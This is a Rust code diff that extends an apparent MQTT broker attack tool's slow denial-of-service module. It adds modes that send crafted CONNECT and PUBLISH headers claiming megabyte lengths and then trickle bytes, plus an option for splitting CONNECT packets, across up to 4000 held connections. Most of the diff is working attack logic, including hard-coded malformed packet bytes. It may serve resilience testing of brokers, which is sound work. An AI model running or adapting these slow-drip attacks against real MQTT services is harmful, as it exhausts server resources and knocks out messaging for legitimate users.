@@ -9,7 +9,8 @@ use std::time::{Duration, Instant};
 use clap::Args;
 use serde::{Deserialize, Serialize};
 
-use super::{Meter, Naming, Place, defaults};
+use super::manner::Naming;
+use super::{Deed, Meter, Place, defaults};
 use crate::mqtt::packet::{PINGREQ, Version};
 use crate::mqtt::session::{ConnectError, Session};
 use crate::random::Random;
@@ -27,6 +28,10 @@ pub enum Slowness {
     Ping,
     /// A CONNECT sent byte by byte, never finished.
     Drip,
+    /// The first bytes of a CONNECT that claims to be huge, and more of it now and then.
+    Header,
+    /// A session, then a huge PUBLISH that comes byte by byte.
+    Publish,
 }
 
 /// Options of the slow denial of service.
@@ -48,6 +53,9 @@ pub struct SlowDos {
     /// Seconds between two PINGREQ of a session, or two bytes of a drip
     #[arg(long, default_value_t = 2.0)]
     pub every: f64,
+    /// Bytes of CONNECT in the first of two segments (split); 0: all but two
+    #[arg(long, default_value_t = 0)]
+    pub cut: u16,
     /// Client identifiers
     #[arg(long, value_enum, default_value = "random")]
     pub naming: Naming,
@@ -72,11 +80,32 @@ struct Held {
     due: Instant,
 }
 
+/// The beginning of a CONNECT of version 3.1.1 that says it is 1,048,576 bytes long, with a client identifier of 65,535.
+const HUGE_CONNECT: &[u8] = b"\x10\x80\x80\x40\x00\x04MQTT\x04\x02\x00\x3c\xff\xff";
+
+/// The beginning of a PUBLISH that says it is 2,097,151 bytes long.
+const HUGE_PUBLISH: &[u8] = b"\x30\xff\xff\x7f\x00\x08load/big";
+
 /// Most connections that one attack holds.
 const MOST_SESSIONS: u32 = 4000;
 
-impl SlowDos {
-    pub(super) fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
+impl Deed for SlowDos {
+    fn label(&self) -> (&'static str, &'static str) {
+        (
+            "mqtt_slow_dos",
+            match self.slowness {
+                Slowness::Silent | Slowness::Split => "A3",
+                Slowness::Ping => "A4",
+                Slowness::Drip | Slowness::Header | Slowness::Publish => "A5",
+            },
+        )
+    }
+
+    fn secs(&self) -> u32 {
+        self.secs
+    }
+
+    fn run(&self, place: &Place, stop: &Stop, meter: &Meter) {
         let mut random = place.random(0);
         let mut pacer = Pacer::new(self.rate);
         let mut held = Vec::new();
@@ -102,7 +131,9 @@ impl SlowDos {
             self.serve(&mut held, meter);
         }
     }
+}
 
+impl SlowDos {
     fn open(&self, place: &Place, random: &mut Random) -> Result<Held, ConnectError> {
         let client_id = self.naming.name(random.seed() % 100_000, random);
         let connect = place.connect(self.protocol, &client_id, self.keep_alive);
@@ -117,10 +148,25 @@ impl SlowDos {
             Slowness::Split => {
                 let mut stream = place.dial().open()?;
                 let bytes = connect.encode();
-                let (head, tail) = bytes.split_at(bytes.len().saturating_sub(2));
+                let last = bytes.len().saturating_sub(2);
+                let cut = if self.cut == 0 { last } else { usize::from(self.cut).min(last) };
+                let (head, tail) = bytes.split_at(cut);
                 stream.write_all(head)?;
                 stream.write_all(tail)?;
                 Held { stream, unsent: Vec::new(), due }
+            }
+            Slowness::Header => {
+                let mut stream = place.dial().open()?;
+                stream.write_all(HUGE_CONNECT)?;
+                let mut unsent = random.text(400).into_bytes();
+                unsent.reverse();
+                Held { stream, unsent, due }
+            }
+            Slowness::Publish => {
+                let mut stream = Session::connect(&place.dial(), &connect)?.into_stream();
+                stream.set_nonblocking(true)?;
+                stream.write_all(HUGE_PUBLISH)?;
+                Held { stream, unsent: random.text(400).into_bytes(), due }
             }
             Slowness::Drip => {
                 let mut stream = place.dial().open()?;
@@ -136,7 +182,7 @@ impl SlowDos {
     }
 
     fn serve(&self, held: &mut Vec<Held>, meter: &Meter) {
-        if !matches!(self.slowness, Slowness::Ping | Slowness::Drip) {
+        if matches!(self.slowness, Slowness::Silent | Slowness::Split) {
             return;
         }
         let now = Instant::now();
